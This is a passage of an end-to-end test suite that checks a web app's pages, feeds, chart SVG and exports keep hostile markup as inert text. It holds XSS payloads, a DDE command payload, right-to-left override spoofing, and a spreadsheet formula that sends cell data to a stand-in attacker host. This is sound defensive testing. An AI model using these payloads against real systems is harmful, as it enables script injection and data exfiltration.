import { readFile } from 'node:fs/promises';
import {
  expect,
  test,
  type APIRequestContext,
  type APIResponse,
  type Browser,
  type BrowserContext,
  type Page,
  request as requests,
} from '@playwright/test';
import Papa from 'papaparse';
import { disconnectDb } from '../lib/db';
import { removeOfficials, uniqueTag, type Official } from './api-fixtures';
import { bearer, storageState, type AccountName } from './auth';
import { hydrated } from './hydration';
import { createOwnAccount, removeOwnAccounts, type OwnAccount } from './own-accounts';
import { screenshot } from './screenshots';

/*
 * Markup typed into Counterpart stays text: names, spellings, offices, summaries, quotes, source titles,
 * events and channels made of HTML, SVG, XML, template and spreadsheet syntax are shown literally on every
 * page that shows them, in the Atom feeds, the exports and the chart's SVG, and run nothing. Each payload
 * sets window.__pwned or opens a dialog if it ever runs; the pages are also searched for what an injection
 * would leave (an <img src=x>, an on… attribute, a javascript: link). The data is made through the API and
 * the admin forms, in Iceland and Portugal (no demo data and no other spec uses them), and removed after.
 */

const PWN = 'window.__pwned=1';
const TAG = uniqueTag();
const A = 'IS';
const B = 'PT';
const OFFICE_A = `${A}:HOSTILE_${TAG}`;
const OFFICE_B = `${B}:HOSTILE_${TAG}`;

/** Officials of Iceland: HTML, an alert, a spreadsheet formula, right-to-left overrides closed and left open. */
const NAMES_A = [
  `<script>${PWN}</script> Ása ${TAG}`,
  `<img src=x onerror="${PWN}"> Bjarni ${TAG}`,
  `"><svg onload=alert(document.domain)> Einar ${TAG}`,
  `=HYPERLINK("https://evil.example/?d="&A1,"Open") Gísli ${TAG}`,
  `Guðrún \u202Eexe.nacs\u202C ${TAG}`,
  `Björk \u202Eevil ${TAG}`,
];
/** Officials of Portugal: markup that ends a <title> or a CDATA section, templates, SVG, a javascript: "URL". */
const NAMES_B = [
  `</title><script>${PWN}</script> Inês ${TAG}`,
  `]]></title><![CDATA[<script>${PWN}</script>]]> João ${TAG}`,
  '{{7*7}} ${7*7} <%= 7*7 %> Luís ' + TAG,
  `<svg><foreignObject><iframe src="javascript:${PWN}"></iframe></foreignObject><a xlink:href="javascript:${PWN}">x</a></svg> Marta ${TAG}`,
  `@SUM(1+1)*cmd|' /C calc'!A0 Nuno ${TAG}`,
  `javascript:${PWN} Rui ${TAG}`,
];
const OTHER_NAMES = [`=1+1 ${TAG}`, `+1+1 ${TAG}`, `-1+1 ${TAG}`, `<b>Bold</b> ${TAG}`];
const OFFICE_TITLE_A = `<img src=x onerror="${PWN}"> Minister ${TAG}`;
const OFFICE_TITLE_B = `</title><script>${PWN}</script> Minister ${TAG}`;
const ORGANISATION = `<b>Ministry</b> &amp; Co ${TAG}`;
const BIO = `<script>${PWN}</script> [click](javascript:${PWN}) ${TAG}`;

/** An HTML entity stays the five characters typed: nothing decodes it, nothing escapes it twice. */
const SUMMARY = `=1+1 <script>${PWN}</script> <b>bold</b> &amp; &lt;i&gt; ]]> ${TAG}`;
const LOCATION = `<marquee>Reykjavík</marquee> ${TAG}`;
const SOURCE = {
  url: `https://example.org/readout?x="><script>${PWN}</script>&t=${TAG}`,
  publisher: `<b onmouseover="${PWN}">Wire</b> ${TAG}`,
  title: `</title><svg onload=${PWN}> Readout ${TAG}`,
  quote: `"><img src=x onerror=${PWN}> said ]]><![CDATA[ nothing ${TAG}`,
  side: `<i>${A}</i> side ${TAG}`,
  archiveUrl: `https://archive.example.org/?'><img/src=x/onerror=${PWN}>`,
};
const EVENT = {
  title: `<img src=x onerror=${PWN}> Summit ${TAG}`,
  description: `</title><script>${PWN}</script> ${TAG}`,
  url: `https://example.org/event?<svg/onload=${PWN}>`,
};
/** A channel whose name also holds a BEL, a character XML cannot hold: the chart's SVG must still be readable. */
const CHANNEL = {
  name: `"><svg onload=${PWN}>\u0007 Line ${TAG}`,
  description: `<script>${PWN}</script> ${TAG}`,
  sourceUrl: `https://example.org/channel?"><b>${TAG}`,
};

type World = {
  a: Official[];
  b: Official[];
  contacts: { first: string; refused: string; meeting: string; hotline: string; expected: string };
  eventHref: string;
  channelHref: string;
};

let world: World;
let baseURL: string;

/** A request context of its own (fixtures are per test; the data is per file). */
function newRequest(): Promise<APIRequestContext> {
  return requests.newContext({ baseURL });
}

async function expectStatus(response: APIResponse, status: number) {
  expect(response.status(), await response.text()).toBe(status);
  return response.json();
}

async function createOfficial(request: APIRequestContext, data: Record<string, unknown>): Promise<Official> {
  return expectStatus(await request.post('/api/v1/officials', { headers: bearer('admin'), data }), 201);
}

async function createContact(request: APIRequestContext, data: Record<string, unknown>): Promise<string> {
  const body = { type: 'CALL', status: 'HELD', sources: [SOURCE], ...data };
  return (
    await expectStatus(await request.post('/api/v1/contacts', { headers: bearer('researcher'), data: body }), 201)
  ).id;
}

/** Fills and submits one of the admin's record forms (events, channels); returns the new record's edit page. */
async function createRecord(page: Page, list: string, fields: [string, string][], button: string, done: string) {
  await page.goto(list);
  const form = page.getByRole('form', { name: /^New / });
  await hydrated(form.getByLabel(new RegExp(`^${fields[0][0]}`)));
  for (const [label, value] of fields) await form.getByLabel(new RegExp(`^${label}`)).fill(value);
  await form.getByRole('button', { name: button }).click();
  await expect(form.getByRole('status')).toContainText(done);
  return (await form.getByRole('status').getByRole('link', { name: 'Edit it' }).getAttribute('href'))!;
}

async function deleteRecord(page: Page, href: string, noun: string) {
  const response = await page.goto(href);
  if (response?.status() === 404) return;
  await page.getByRole('button', { name: 'Delete…' }).click();
  await page.getByRole('button', { name: `Yes, delete this ${noun}` }).click();
  await expect(page.getByRole('heading', { name: `${noun[0].toUpperCase()}${noun.slice(1)} deleted` })).toBeVisible();
}

async function asAccount(browser: Browser, name: AccountName): Promise<BrowserContext> {
  return browser.newContext({ baseURL, storageState: storageState(name) });
}

test.beforeAll(async ({ browser }, testInfo) => {
  test.setTimeout(180_000);
  baseURL = testInfo.project.use.baseURL!;
  const request = await newRequest();
  const a: Official[] = [];
  const b: Official[] = [];
  try {
    for (const [i, name] of NAMES_A.entries()) {
      a.push(
        await createOfficial(request, {
          name,
          country: A,
          ...(i === 0 && {
            otherNames: OTHER_NAMES,
            bio: BIO,
            links: [`https://example.org/"><script>${PWN}</script>`],
            positions: [
              { title: OFFICE_TITLE_A, officeKey: OFFICE_A, organisation: ORGANISATION, startDate: '2020-01-01' },
            ],
          }),
        }),
      );
    }
    for (const [i, name] of NAMES_B.entries()) {
      b.push(
        await createOfficial(request, {
          name,
          country: B,
          ...(i === 0 && {
            positions: [
              { title: OFFICE_TITLE_B, officeKey: OFFICE_B, organisation: ORGANISATION, startDate: '2020-01-01' },
            ],
          }),
        }),
      );
    }
  } finally {
    // Whatever was made is removed in afterAll, even when making the rest failed.
    world = { a, b } as World;
  }

  const context = await asAccount(browser, 'admin');
  const page = await context.newPage();
  world.eventHref = await createRecord(
    page,
    '/admin/events',
    [
      ['Date', '2021-09-01'],
      ['Title', EVENT.title],
      ['Description', EVENT.description],
      ['Link', EVENT.url],
      ['Countries', `${A}, ${B}`],
    ],
    'Add event',
    `Event “${EVENT.title}” created`,
  );
  world.channelHref = await createRecord(
    page,
    '/admin/channels',
    [
      ['Established on', '2021-03-01'],
      ['Name', CHANNEL.name],
      ['Description', CHANNEL.description],
      ['Countries', `${A}, ${B}`],
      ['Source', CHANNEL.sourceUrl],
    ],
    'Add channel',
    `Channel “${CHANNEL.name}” created`,
  );
  await context.close();

  const [a0, b0] = [a[0], b[0]];
  const channel = world.channelHref.split('/').at(-1)!;
  world.contacts = {
    first: await createContact(request, {
      date: '2021-01-10',
      participants: [a0.slug, b0.slug],
      initiator: a0.slug,
      summary: SUMMARY,
    }),
    refused: await createContact(request, {
      date: '2021-06-01',
      status: 'REFUSED',
      participants: [a0.slug, b0.slug],
      initiator: b0.slug,
      summary: SUMMARY,
    }),
    meeting: await createContact(request, {
      date: '2022-02-01',
      type: 'MEETING',
      participants: [...a, ...b].map((o) => o.slug),
      initiator: a0.slug,
      location: LOCATION,
      summary: SUMMARY,
      topics: [`<script>${PWN}</script>`, '=1+1'],
    }),
    hotline: await createContact(request, {
      date: '2022-03-01',
      type: 'HOTLINE',
      participants: [a0.slug, b0.slug],
      channel,
      summary: SUMMARY,
    }),
    expected: await createContact(request, {
      date: '2023-01-15',
      status: 'SCHEDULED',
      participants: [a0.slug, b0.slug],
      summary: SUMMARY,
    }),
  };
  await request.dispose();
});

test.afterAll(async ({ browser }) => {
  test.setTimeout(120_000);
  const request = await newRequest();
  await removeOfficials(
    request,
    [...(world?.a ?? []), ...(world?.b ?? [])].map((o) => o.id),
  );
  await request.dispose();
  const context = await asAccount(browser, 'admin');
  const page = await context.newPage();
  if (world?.eventHref) await deleteRecord(page, world.eventHref, 'event');
  if (world?.channelHref) await deleteRecord(page, world.channelHref, 'channel');
  await context.close();
  await disconnectDb();
});

/** Fails the test on any dialog (an alert() that ran). */
function watchDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return dialogs;
}

/**
 * What an injection would leave in the page: a payload that ran (window.__pwned), or markup that became
 * elements: an <img src=x>, an iframe or foreignObject from a name, an on… attribute (React never writes
 * one), a javascript: address, a <script> of a payload's own.
 */
function injectionTraces(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const bad: string[] = [];
    if ((window as { __pwned?: unknown }).__pwned !== undefined) bad.push('window.__pwned is set');
    for (const element of document.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase();
      if (tag === 'iframe' || tag === 'foreignobject' || tag === 'marquee') bad.push(`a <${tag}> element`);
      if (tag === 'img' && element.getAttribute('src') === 'x') bad.push('an <img src=x>');
      if (tag === 'script' && (element.textContent ?? '').trim().startsWith('window.__pwned')) bad.push('a <script>');
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name)) bad.push(`<${tag} ${attribute.name}>`);
        if (
          /(^|:)(href|src|action|formaction)$/i.test(attribute.name) &&
          /^\s*(javascript|vbscript):/i.test(attribute.value)
        ) {
          bad.push(`<${tag} ${attribute.name}="${attribute.value}">`);
        }
      }
    }
    return bad;
  });
}

/** Nothing ran and nothing was injected; no dialog opened. */
async function expectInert(page: Page, dialogs: string[], where: string) {
  expect(await injectionTraces(page), `${where}: nothing injected`).toEqual([]);
  expect(dialogs, `${where}: no dialog opened`).toEqual([]);
}

/** Every text is on the page, as typed. */
async function expectLiteral(page: Page, texts: string[], where: string) {
  for (const text of texts) {
    // Visible: a hidden copy (an <option> of a filter, say) is not what a reader sees.
    const shown = page.getByText(text, { exact: false }).filter({ visible: true }).first();
    await expect(shown, `${where}: ${JSON.stringify(text)}`).toBeVisible();
  }
}

/**
 * Text of this spec's (it holds the tag) that runs out of its box: a long unbroken string must wrap, not spill
 * over the next column. Each text's lines are measured against the block that holds it; text in the charts'
 * SVG, and in boxes that scroll or clip on purpose, is left out.
 */
function spilledText(page: Page): Promise<string[]> {
  return page.evaluate((tag) => {
    const spilled: string[] = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const parent = node.parentElement;
      if (!node.textContent?.includes(tag) || parent === null || parent.closest('svg')) continue;
      let block: HTMLElement | null = parent;
      while (block && getComputedStyle(block).display.startsWith('inline')) block = block.parentElement;
      if (block === null) continue;
      const style = getComputedStyle(block);
      const box = block.getBoundingClientRect();
      if (style.overflowX !== 'visible' || box.width <= 1) continue;
      const range = document.createRange();
      range.selectNodeContents(node);
      const out = [...range.getClientRects()].find(
        (r) => r.width > 0 && (r.right > box.right + 1 || r.left < box.left - 1),
      );
      if (out)
        spilled.push(
          `${block.tagName.toLowerCase()}: ${node.textContent.slice(0, 60)} (${Math.round(out.right - box.right)} px)`,
        );
    }
    return spilled;
  }, TAG);
}

/** Where parts of one text are drawn (the first text node holding `within`): each part's top and left. */
async function drawnAt(page: Page, within: string, parts: string[]) {
  const places = await page.evaluate(
    ({ within, parts }) => {
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
        const text = node.textContent ?? '';
        if (!text.includes(within)) continue;
        return parts.map((part) => {
          const range = document.createRange();
          const start = text.indexOf(part, text.indexOf(within));
          range.setStart(node, start);
          range.setEnd(node, start + part.length);
          const box = range.getBoundingClientRect();
          return { top: box.top, left: box.left };
        });
      }
      return null;
    },
    { within, parts },
  );
  expect(places, `a text holding ${JSON.stringify(within)}`).not.toBeNull();
  return places!;
}

/** Opens a page, waits until React owns it, and checks that it shows the texts literally and runs nothing. */
async function visit(page: Page, dialogs: string[], path: string, texts: string[]) {
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(200);
  await hydrated(page.locator('body header a').first());
  await expectLiteral(page, texts, path);
  await expectInert(page, dialogs, path);
  // Soft: one run lists every page where something spills, not just the first.
  expect.soft(await spilledText(page), `${path}: long strings wrap`).toEqual([]);
}

test('names, offices, summaries, quotes, sources, events and channels are text on every public page', async ({
  browser,
}) => {
  test.setTimeout(240_000);
  const context = await asAccount(browser, 'researcher');
  const page = await context.newPage();
  const dialogs = watchDialogs(page);
  const { a, b } = world;
  const [a0, b0] = [a[0], b[0]];
  const allNames = [...NAMES_A, ...NAMES_B];

  // The dashboard, at each level, for Iceland: the headline, the lists, the overdue contact, the chart and its
  // tooltip (drawn in the browser, after the page).
  for (const [level, texts] of [
    ['officials', [a0.name, SUMMARY]],
    ['offices', [OFFICE_TITLE_A, OFFICE_TITLE_B, SUMMARY]],
    ['countries', ['Iceland', SUMMARY]],
  ] as const) {
    await visit(page, dialogs, `/?level=${level}&country=${A}`, [...texts]);
    const chart = page.getByRole('region', { name: 'Headline chart' });
    await chart.locator('.recharts-bar-rectangle').first().hover();
    await expect(chart.locator('.recharts-tooltip-wrapper')).toContainText(level === 'countries' ? 'Iceland' : TAG);
    await expectInert(page, dialogs, `the ${level} dashboard’s chart`);
    if (level === 'officials') await screenshot(page, 'hostile-dashboard');
  }

  // The three pair pages: the chart draws (its labels are SVG text), the timeline lists every source.
  const pairs = [
    `/pairs/officials/${a0.slug}/${b0.slug}`,
    `/pairs/offices/${OFFICE_A}/${OFFICE_B}`,
    `/pairs/countries/${A}/${B}`,
  ];
  for (const path of pairs) {
    await visit(page, dialogs, path, [
      SUMMARY,
      SOURCE.title,
      SOURCE.publisher,
      SOURCE.quote,
      SOURCE.side,
      EVENT.title,
      `over the ${CHANNEL.name}`,
      ...(path === pairs[0] ? [a0.name, b0.name] : allNames),
    ]);
    const chart = page.getByTestId('gap-chart');
    await expect(chart.locator('svg.recharts-surface')).toBeVisible();
    await expect(chart.locator('svg text', { hasText: EVENT.title })).toBeVisible();
    await expect(chart.locator('svg text', { hasText: `${CHANNEL.name} set up` })).toBeVisible();
    await expect(page.getByRole('link', { name: SOURCE.publisher }).first()).toHaveAttribute('href', SOURCE.url);
    await expectInert(page, dialogs, `${path}, chart drawn`);
    if (path === pairs[2]) await screenshot(page, 'hostile-pair-countries');
  }

  // A right-to-left override left open in a name is closed where the name ends: the words after it read on.
  expect(a[5].name).toBe(`${NAMES_A[5]}\u202C`);
  await visit(page, dialogs, `/pairs/officials/${a[5].slug}/${b0.slug}`, [a[5].name]);
  const [overridden, after] = await drawnAt(page, `between ${a[5].name}`, ['evil', ' and ']);
  expect(Math.abs(after.top - overridden.top), 'the name and the word after it share a line').toBeLessThan(2);
  expect(after.left, 'the word after the name is drawn after it').toBeGreaterThan(overridden.left);

  // The chart's tooltip on the refused call, which names who sought it.
  await page.goto(pairs[0]);
  const chart = page.getByTestId('gap-chart');
  await chart.locator('[data-marker="REFUSED"]').first().hover();
  await expect(page.getByRole('tooltip')).toContainText(`${b0.name} sought a call — refused`);
  await expectInert(page, dialogs, 'the chart’s tooltip');

  // The chart saved as SVG is well-formed XML, and the names in it are text.
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the chart as SVG' }).click(),
  ]);
  const svg = await readFile((await download.path())!, 'utf8');
  const parsed = await page.evaluate((markup) => {
    const doc = new DOMParser().parseFromString(markup, 'image/svg+xml');
    const error = doc.querySelector('parsererror');
    return {
      error: error?.textContent ?? null,
      tags: [...new Set([...doc.querySelectorAll('*')].map((e) => e.localName))],
      text: doc.documentElement.textContent ?? '',
      handlers: [...doc.querySelectorAll('*')].flatMap((e) =>
        [...e.attributes]
          .filter((at) => /^on/i.test(at.name) || /^\s*javascript:/i.test(at.value))
          .map((at) => at.name),
      ),
    };
  }, svg);
  expect(parsed.error, 'the saved SVG parses').toBeNull();
  expect(parsed.tags.filter((t) => ['script', 'foreignObject', 'iframe', 'img', 'a'].includes(t))).toEqual([]);
  expect(parsed.handlers).toEqual([]);
  expect(parsed.text).toContain(a0.name);
  expect(parsed.text).toContain(EVENT.title);
  // The BEL in the channel's name is one of the characters no XML document may hold: it alone is dropped.
  expect(parsed.text).toContain(CHANNEL.name.replace('\u0007', ''));
  // The PNG is drawn from that SVG: it would fail to load if the SVG did not parse.
  const [png] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download the chart as PNG' }).click(),
  ]);
  expect((await readFile((await png.path())!)).subarray(1, 4).toString('latin1')).toBe('PNG');
  await expectInert(page, dialogs, 'the chart’s downloads');

  // Each official's page: the name, spellings, office, biography, links, contacts.
  for (const official of [...a, ...b]) {
    await visit(page, dialogs, `/officials/${official.slug}`, [official.name, SUMMARY]);
  }
  await visit(page, dialogs, `/officials/${a0.slug}`, [...OTHER_NAMES, OFFICE_TITLE_A, ORGANISATION, BIO]);
  await screenshot(page, 'hostile-official');
  await visit(page, dialogs, `/offices/${OFFICE_A}`, [OFFICE_TITLE_A, a0.name]);

  // Search: the query is shown back, officials and contacts are found.
  for (const q of [NAMES_A[1], NAMES_B[0], `-1+1 ${TAG}`]) {
    await visit(page, dialogs, `/search?q=${encodeURIComponent(q)}`, [q]);
  }
  await visit(page, dialogs, `/search?official=${a0.slug}`, [SUMMARY, a0.name, b0.name]);
  // The header's search box sends what was typed, and the results page shows it back as typed.
  await page.getByRole('searchbox', { name: 'Search officials and contacts' }).fill(NAMES_B[3]);
  await page.getByRole('searchbox', { name: 'Search officials and contacts' }).press('Enter');
  await expect(page).toHaveURL(/\/search\?q=/);
  await expect(page.getByRole('link', { name: NAMES_B[3] }).first()).toBeVisible();
  await expectInert(page, dialogs, 'the header’s search');

  // The contact form's type-ahead offers the names as text.
  await visit(page, dialogs, '/contacts/new', []);
  const participants = page.getByRole('combobox', { name: 'Participants' });
  await hydrated(participants);
  for (const name of [NAMES_A[2], NAMES_B[3]]) {
    await participants.fill(name.slice(0, 30));
    await expect(page.getByRole('option', { name: new RegExp(escapeRegExp(name.slice(0, 30))) }).first()).toBeVisible();
    await expectLiteral(page, [name], 'the type-ahead');
    await expectInert(page, dialogs, `the type-ahead for ${name}`);
  }

  // The edit form holds every value exactly as it was typed.
  await visit(page, dialogs, `/contacts/${world.contacts.meeting}/edit`, [a0.name, b0.name]);
  await expect(page.getByLabel('Summary')).toHaveValue(SUMMARY);
  await expect(page.getByLabel('Location')).toHaveValue(LOCATION);
  await expect(page.getByRole('textbox', { name: /^Title/ }).first()).toHaveValue(SOURCE.title);
  await expect(page.getByRole('textbox', { name: /^Quote/ }).first()).toHaveValue(SOURCE.quote);
  await expectInert(page, dialogs, 'the edit form');
  await context.close();
});

test('the checks catch markup that became elements, a script that ran and a dialog', async ({ page }) => {
  const dialogs = watchDialogs(page);
  await page.goto('/');
  await page.evaluate(
    (names) => {
      const box = document.createElement('div');
      box.innerHTML = names.join(' ');
      document.body.append(box);
    },
    [NAMES_A[1], NAMES_B[3]],
  );
  await expect
    .poll(() => injectionTraces(page))
    .toEqual(
      expect.arrayContaining([
        'window.__pwned is set',
        'an <img src=x>',
        '<img onerror>',
        'a <foreignobject> element',
        'a <iframe> element',
        `<iframe src="javascript:${PWN}">`,
        `<a xlink:href="javascript:${PWN}">`,
      ]),
    );
  await page.evaluate(() => window.alert('ran'));
  expect(dialogs).toEqual(['alert: ran']);
});

test('admin pages, edit forms and the audit log show the markup as text', async ({ browser }) => {
  test.setTimeout(180_000);
  const context = await asAccount(browser, 'admin');
  const page = await context.newPage();
  const dialogs = watchDialogs(page);
  const { a, b } = world;
  const [a0, b0] = [a[0], b[0]];

  await visit(page, dialogs, `/admin/officials?country=${A}`, [...NAMES_A, OFFICE_TITLE_A]);
  await visit(page, dialogs, `/admin/officials?q=${encodeURIComponent(NAMES_B[1])}`, [NAMES_B[1]]);
  await visit(page, dialogs, `/admin/officials/${a0.slug}`, []);
  await expect(page.getByLabel('Name', { exact: true })).toHaveValue(a0.name);
  await expect(page.getByLabel(/^Other spellings/)).toHaveValue(new RegExp(escapeRegExp(OTHER_NAMES[0])));
  await expect(page.getByLabel(/^Short bio/)).toHaveValue(BIO);
  await expect(page.getByRole('textbox', { name: /^Title/ }).first()).toHaveValue(OFFICE_TITLE_A);
  await expectInert(page, dialogs, 'the official’s edit form');

  await visit(page, dialogs, '/admin/offices', [OFFICE_TITLE_A, OFFICE_TITLE_B, ORGANISATION, a0.name, b0.name]);
  await visit(page, dialogs, '/admin/events', [EVENT.title]);
  const eventItem = page.getByRole('listitem').filter({ hasText: EVENT.title });
  await expect(eventItem.getByRole('link', { name: 'example.org' })).toHaveAttribute('href', EVENT.url);
  await visit(page, dialogs, world.eventHref, []);
  await expect(page.getByLabel(/^Title/)).toHaveValue(EVENT.title);
  await expect(page.getByLabel(/^Description/)).toHaveValue(EVENT.description);
  await visit(page, dialogs, '/admin/channels', [CHANNEL.name]);
  const channelItem = page.getByRole('listitem').filter({ hasText: CHANNEL.name });
  await expect(channelItem.getByRole('link', { name: 'example.org' })).toHaveAttribute('href', CHANNEL.sourceUrl);
  await visit(page, dialogs, world.channelHref, []);
  await expect(page.getByLabel(/^Name/)).toHaveValue(CHANNEL.name);
  await expectInert(page, dialogs, 'the event and channel forms');

  // The audit log: what each official and contact was made with, in words and in the full record.
  const audit = async (query: string, texts: string[]) => {
    await visit(page, dialogs, `/admin/audit?${query}`, []);
    await page.getByText('Full record').first().click();
    await expectLiteral(page, texts, query);
    await expectInert(page, dialogs, query);
  };
  await audit(`entityType=official&entityId=${a0.id}`, [a0.name, BIO, OFFICE_TITLE_A]);
  await audit(`entityType=contact&entityId=${world.contacts.meeting}`, [SUMMARY, LOCATION, SOURCE.title, SOURCE.quote]);
  await visit(page, dialogs, `/admin/audit?entityType=channel`, [CHANNEL.name]);
  await visit(page, dialogs, `/admin/audit?entityType=context_event`, [EVENT.title]);

  // A user's name: made by the admin, listed, in the audit log, and in the header once they sign in.
  const userName = `<img src=x onerror="${PWN}"> Ólöf \u202Eresu ${TAG}`;
  const email = `hostile-${TAG.toLowerCase()}@own.e2e.test`;
  await page.goto('/admin/users');
  const form = page.getByRole('region', { name: 'New user' });
  await hydrated(form.getByLabel('Name'));
  await form.getByLabel('Name').fill(userName);
  await form.getByLabel('Email').fill(email);
  await form.getByLabel('Role').selectOption('VIEWER');
  await form.getByRole('button', { name: 'Make the account' }).click();
  await expect(form.getByRole('status').first()).toContainText(`Account made for ${userName}`);
  const password = (await form.locator('#new-user-password').textContent())!;
  const userPath = (await form.getByRole('link', { name: /^Manage / }).getAttribute('href'))!;
  try {
    await expectInert(page, dialogs, 'the new user form');
    await visit(page, dialogs, '/admin/users', [userName]);
    await visit(page, dialogs, userPath, [userName]);
    await audit(`entityType=user&entityId=${userPath.split('/').at(-1)}`, [userName]);
    const user = await browser.newContext({ baseURL, storageState: { cookies: [], origins: [] } });
    const userPage = await user.newPage();
    const userDialogs = watchDialogs(userPage);
    await userPage.goto('/sign-in');
    await userPage.getByLabel('Email').fill(email);
    await userPage.getByLabel('Password', { exact: true }).fill(password);
    await userPage.getByRole('button', { name: 'Sign in' }).click();
    // The name is stored with its override closed: the role after it reads as it should.
    await expect(userPage.getByRole('button', { name: `${userName}\u202C · viewer` })).toBeVisible();
    await visit(userPage, userDialogs, `/pairs/officials/${a0.slug}/${b0.slug}`, [userName]);
    await user.close();
  } finally {
    await removeOwnAccounts([{ id: userPath.split('/').at(-1)!, email, password, name: userName }]);
  }

  // The merge preview puts two hostile names side by side.
  await visit(page, dialogs, `/admin/merge?duplicate=${a[1].slug}&keep=${a0.slug}`, [a0.name, a[1].name]);
  await context.close();
});

type FeedEntry = { title: string; summary: string; links: { rel: string; href: string; title: string | null }[] };

/** Parses an Atom document with the browser's XML parser: its error, any element not Atom's, and its entries. */
function parseAtom(page: Page, xml: string) {
  return page.evaluate((text) => {
    const ATOM = 'http://www.w3.org/2005/Atom';
    const doc = new DOMParser().parseFromString(text, 'application/xml');
    const own = (parent: Element, name: string) =>
      [...parent.children].find((child) => child.namespaceURI === ATOM && child.localName === name);
    // What a reader shows: RFC 4287 lets it collapse the white space of a text construct (a CDATA section sits on its own line).
    const shown = (element: Element | undefined) => element?.textContent?.replace(/\s+/g, ' ').trim() ?? null;
    return {
      error: doc.getElementsByTagName('parsererror')[0]?.textContent ?? null,
      foreign: [...doc.getElementsByTagName('*')].filter((e) => e.namespaceURI !== ATOM).map((e) => e.localName),
      title: shown(own(doc.documentElement, 'title')),
      entries: [...doc.getElementsByTagNameNS(ATOM, 'entry')].map((entry) => ({
        title: shown(own(entry, 'title')) ?? '',
        summary: shown(own(entry, 'summary')) ?? '',
        links: [...entry.getElementsByTagNameNS(ATOM, 'link')].map((l) => ({
          rel: l.getAttribute('rel') ?? '',
          href: l.getAttribute('href') ?? '',
          title: l.getAttribute('title'),
        })),
      })),
    };
  }, xml);
}

test('the Atom feeds are well-formed and carry the markup as text', async ({ page, request }) => {
  const { a, b } = world;
  const [a0, b0] = [a[0], b[0]];
  await page.goto('/');
  const feeds = [
    { path: '/feeds/contacts.xml', title: 'Counterpart: latest contacts' },
    { path: `/feeds/pairs/officials/${a0.slug}/${b0.slug}`, title: `Counterpart: ${a0.name} – ${b0.name}` },
    { path: `/feeds/pairs/offices/${OFFICE_A}/${OFFICE_B}`, title: `Counterpart: ${OFFICE_TITLE_A}` },
    { path: `/feeds/pairs/countries/${A}/${B}`, title: 'Counterpart: Iceland – Portugal' },
  ];
  for (const feed of feeds) {
    const response = await request.get(feed.path);
    expect(response.status(), feed.path).toBe(200);
    expect(response.headers()['content-type']).toBe('application/atom+xml; charset=utf-8');
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
    const parsed = await parseAtom(page, await response.text());
    expect(parsed.error, `${feed.path} parses`).toBeNull();
    expect(parsed.foreign, `${feed.path}: no element but Atom's`).toEqual([]);
    expect(parsed.title).toContain(feed.title);
    const mine = parsed.entries.filter((e: FeedEntry) => e.summary === SUMMARY);
    expect(mine, `${feed.path}: the pair's five contacts, the summary as typed`).toHaveLength(5);
    const meeting = mine.find((e: FeedEntry) => e.title.startsWith('Meeting held'))!;
    for (const official of [...a, ...b]) expect(meeting.title).toContain(official.name);
    expect(meeting.links).toContainEqual({ rel: 'related', href: SOURCE.url, title: SOURCE.title });
  }
});

/** Rows of a CSV as a spreadsheet would read them (the # lines too), and the rows under the header. */
function readCsv(text: string) {
  const every = Papa.parse<string[]>(text.trim(), { skipEmptyLines: true }).data;
  const rows = Papa.parse<Record<string, string>>(text, { header: true, comments: '#', skipEmptyLines: true }).data;
  return { every, rows };
}

/** No cell starts a formula: a cell that would (= + - @, a tab or a CR first) starts with ' instead. */
function expectNoFormula(cells: string[][], what: string) {
  const formulas = cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(formulas, `${what}: cells a spreadsheet would run`).toEqual([]);
}

function expectDownload(response: APIResponse, type: RegExp, extension: string) {
  const headers = response.headers();
  expect(headers['content-type']).toMatch(type);
  expect(headers['content-disposition']).toMatch(
    new RegExp(`^attachment; filename="counterpart-[a-z0-9-]+\\.${extension}"$`),
  );
  expect(headers['x-content-type-options']).toBe('nosniff');
}

test('the exports keep the markup as text and neutralise spreadsheet formulas', async ({ browser, request }) => {
  const { a, b } = world;
  const [a0, b0] = [a[0], b[0]];
  const names = [...a, ...b].map((o) => o.name);

  // Contacts, as CSV: every formula start neutralised, everything else as typed.
  const csvResponse = await request.get(`/api/v1/contacts/export?format=csv&country=${A}`);
  expect(csvResponse.status()).toBe(200);
  expectDownload(csvResponse, /^text\/csv; charset=utf-8$/, 'csv');
  const csv = readCsv(await csvResponse.text());
  expectNoFormula(csv.every, 'contacts CSV');
  expect(csv.rows).toHaveLength(5);
  for (const row of csv.rows) {
    expect(row.summary).toBe(`'${SUMMARY}`);
    expect(row.source_publishers).toBe(SOURCE.publisher);
    expect(row.source_urls).toBe(SOURCE.url);
  }
  const meeting = csv.rows.find((row) => row.type === 'MEETING')!;
  expect(meeting.participants.split('; ').sort()).toEqual([...names].sort());
  expect(meeting.location).toBe(LOCATION);
  expect(meeting.positions).toContain(OFFICE_TITLE_A);

  // As JSON and as PLOVER JSON Lines: the same strings, exactly.
  const jsonResponse = await request.get(`/api/v1/contacts/export?format=json&country=${A}`);
  expectDownload(jsonResponse, /^application\/json; charset=utf-8$/, 'json');
  const json = (await jsonResponse.json()) as { items: Record<string, unknown>[] };
  expect(json.items).toHaveLength(5);
  const jsonMeeting = json.items.find((item) => item.type === 'MEETING') as {
    summary: string;
    location: string;
    participants: { name: string }[];
    sources: Record<string, unknown>[];
  };
  expect(jsonMeeting.summary).toBe(SUMMARY);
  expect(jsonMeeting.location).toBe(LOCATION);
  expect(jsonMeeting.participants.map((p) => p.name).sort()).toEqual([...names].sort());
  expect(jsonMeeting.sources[0]).toMatchObject(SOURCE);

  const ploverResponse = await request.get(`/api/v1/contacts/export?format=plover&country=${A}`);
  expectDownload(ploverResponse, /^application\/x-ndjson; charset=utf-8$/, 'jsonl');
  const lines = (await ploverResponse.text())
    .trim()
